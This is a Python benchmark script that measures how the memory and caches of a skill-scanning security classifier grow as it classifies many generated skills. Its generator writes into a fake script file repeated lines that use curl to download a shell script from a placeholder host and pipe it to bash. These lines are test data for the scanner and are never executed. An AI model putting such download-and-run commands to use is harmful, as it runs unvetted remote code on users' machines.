"""Memory of a process that classifies skill after skill (a batch scan, the MCP server, a registry).

Each skill is generated to grow every cache the detectors keep across skills: lines of random words from
the phrase rules' own gate words (a new combination of word sets on nearly every line), distinct long
base64 runs and URLs, and a new name for every download a script runs. The process's resident memory
(after returning freed memory to the system) is read after a warm-up skill and after each quarter of
the run; the figure is the growth per skill in the last quarter as a ratio of the first quarter's, in
the same run (a process whose caches are bounded grows less and less), with the size of every bounded
cache against its bound at the end. ``--corpus`` adds the same reading over ordinary skills (a scan
record's corpus, e.g. the wild sample) for comparison.

    python benchmarks/scan_memory.py --skills 40
    python benchmarks/scan_memory.py --skills 40 --corpus ../shared/data/security/wild/wild.tar.gz
"""

from __future__ import annotations

import argparse
import base64
import ctypes
import json
import random
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))


def resident_mb() -> float:
    """Resident memory after handing freed heap back to the system (Linux; 0 elsewhere)."""
    try:
        ctypes.CDLL("libc.so.6").malloc_trim(0)
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0


def hostile_skills(n: int, lines: int, seed: int = 7) -> Iterator[dict[str, bytes]]:
    from nervous_plugins.review_policy import prose

    words = sorted({w for ws in prose.GATES.values() for w in ws})
    rng = random.Random(seed)
    for k in range(n):
        text = "\n".join(
            " ".join(rng.choice(words) + rng.choice(("", "s", "ing", ".", ",")) for _ in range(rng.randint(3, 30)))
            + (" " + base64.b64encode(rng.randbytes(600)).decode() if i % 50 == 0 else "")
            + (f" https://h{k}-{i}.example/" + "p" * 900 if i % 70 == 0 else "")
            for i in range(lines))
        script = "\n".join(f"curl -fsSL https://dl.example.org/k{k}t{i}.sh -o /tmp/k{k}t{i}.sh && bash /tmp/k{k}t{i}.sh"
                           for i in range(lines // 4))
        yield {"SKILL.md": f"---\nname: s{k}\ndescription: generated\n---\n{text}\n".encode(),
               "scripts/get.sh": f"#!/bin/sh\n{script}\n".encode(),
               "data.json": text.encode()}


def corpus_skills(corpus: Path, n: int) -> Iterator[dict[str, bytes]]:
    from security import load_items

    items = load_items(corpus.read_bytes())
    for item_id in sorted(items)[:n]:
        yield dict(items[item_id])


def cache_sizes() -> dict[str, list[int]]:
    """Each cache kept across skills: [size, bound] (-1 where this version of the code has none)."""
    from nervous_plugins.review_policy import classifier, collector, prose, rx

    inline = getattr(rx, "inline", None)
    return {
        "rule expressions (rx.compile)": [len(rx._CACHE), -1],
        "expressions from names (rx.inline)": [inline.cache_info().currsize if inline else -1,
                                               getattr(rx, "INLINE_KEPT", -1)],
        "expression engines listed": [len(rx.ENGINES), getattr(rx, "ENGINES_KEPT", -1)],
        "phrase gate answers": [len(prose._GATE_SET._answers), getattr(rx, "ANSWERS_KEPT", -1)],
        "decoded literals": [classifier._decoded_kind.cache_info().currsize, 4096],
        "URL kinds": [classifier._url_kinds.cache_info().currsize, 4096],
        "tags": [collector._normalized.cache_info().currsize, 8192],
    }


def run(skills: list[dict[str, bytes]]) -> dict[str, object]:
    from nervous_plugins.review_policy.classifier import Classifier

    from nervous.plugin import ScanContext, SkillBundle, SkillFile, SkillRef

    classifier = Classifier()
    context = ScanContext(purpose="install")

    def classify(files: dict[str, bytes], name: str) -> None:
        bundle = SkillBundle(ref=SkillRef(name), files=tuple(SkillFile(p, d) for p, d in sorted(files.items())))
        classifier.classify(bundle, context)

    classify({"SKILL.md": "# warm-up ✓\n".encode()}, "warm-up")
    classify(skills[0], "warm-up-2")
    readings = [resident_mb()]
    quarter = max(1, len(skills) // 4)
    started = time.process_time()
    for i, files in enumerate(skills, 1):
        classify(files, f"s{i}")
        if i % quarter == 0:
            readings.append(resident_mb())
    growth = [round((b - a) / quarter, 2) for a, b in zip(readings, readings[1:], strict=False)]
    return {"skills": len(skills), "cpu_s": round(time.process_time() - started, 1),
            "resident_mb": [round(r, 1) for r in readings], "growth_mb_per_skill_by_quarter": growth,
            "last_over_first_quarter": round(growth[-1] / growth[0], 2) if growth and growth[0] > 0 else None,
            "caches": cache_sizes()}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--skills", type=int, default=40)
    parser.add_argument("--lines", type=int, default=1000, help="lines of each generated file")
    parser.add_argument("--corpus", type=Path, help="also read ordinary skills from this corpus archive")
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--worker", choices=("hostile", "ordinary"), help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.skills < 4 or args.lines < 8:
        parser.error("--skills must be at least 4 and --lines at least 8")
    if args.corpus is not None and not args.corpus.is_file():
        parser.error(f"--corpus {args.corpus}: no such file")
    if args.worker == "hostile":
        print(json.dumps(run(list(hostile_skills(args.skills, args.lines)))))
        return 0
    if args.worker == "ordinary":
        print(json.dumps(run(list(corpus_skills(args.corpus, args.skills)))))
        return 0
    results = {}  # each kind in a process of its own, so that neither starts with the other's caches
    for kind in ("hostile", "ordinary") if args.corpus is not None else ("hostile",):
        cmd = [sys.executable, __file__, "--worker", kind, "--skills", str(args.skills), "--lines", str(args.lines)]
        cmd += ["--corpus", str(args.corpus)] if args.corpus is not None else []
        out = subprocess.run(cmd, capture_output=True, text=True, check=True)
        results[kind] = json.loads(out.stdout.strip().splitlines()[-1])
    if args.json:
        print(json.dumps(results, indent=2))
        return 0
    for kind, r in results.items():
        print(f"{kind}: {r['skills']} skills, {r['cpu_s']} s CPU; resident MB {r['resident_mb']}")
        print(f"  growth MB per skill by quarter {r['growth_mb_per_skill_by_quarter']} "
              f"(last / first quarter: {r['last_over_first_quarter']})")
        for name, (size, bound) in r["caches"].items():  # type: ignore[attr-defined]
            print(f"  {name:38s} {size:6d}" + (f" / {bound}" if bound > 0 else ""))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
